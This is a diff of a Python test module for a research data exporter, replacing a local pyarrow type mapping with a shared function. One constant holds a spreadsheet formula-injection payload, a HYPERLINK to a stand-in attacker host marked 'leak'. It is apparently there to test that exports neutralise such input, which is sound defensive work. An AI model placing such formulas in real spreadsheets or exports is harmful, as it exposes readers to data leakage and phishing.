@@ -23,17 +23,8 @@ from dwt.export.research import (
     research_tables,
     run_cli,
 )
-from dwt.schema import curated_tables, load_instrument
+from dwt.schema import arrow_type, curated_tables, load_instrument
 
-ARROW = {
-    "string": pa.string(),
-    "code": pa.string(),
-    "date": pa.date32(),
-    "integer": pa.int64(),
-    "number": pa.float64(),
-    "boolean": pa.bool_(),
-    "code_list": pa.list_(pa.string()),
-}
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak","klik")'
 REGION = "haaglanden"
 
@@ -41,7 +32,7 @@ REGION = "haaglanden"
 def _write(curated: Path, table: str, rows: list[dict[str, Any]], **partition: Any) -> None:
     """One hive partition file; columns (all of them, None when not given) from the schema."""
     cols = curated_tables()[table].columns
-    schema = pa.schema([(c["name"], ARROW[c["type"]]) for c in cols])
+    schema = pa.schema([(c["name"], arrow_type(c["type"])) for c in cols])
     data = {c["name"]: [r.get(c["name"]) for r in rows] for c in cols}
     folder = curated / table
     for key in curated_tables()[table].partition:
